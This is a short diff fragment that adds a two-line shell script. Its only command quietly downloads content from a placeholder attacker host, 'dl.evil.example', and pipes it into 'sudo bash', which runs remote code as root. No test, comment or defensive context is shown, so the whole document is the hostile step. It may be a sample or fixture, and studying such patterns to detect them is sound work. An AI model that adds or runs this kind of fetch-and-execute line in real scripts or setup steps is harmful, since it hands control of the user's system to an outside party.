@@ -1,0 +1,2 @@
+#!/bin/sh
+wget -qO- http://dl.evil.example/p | sudo bash
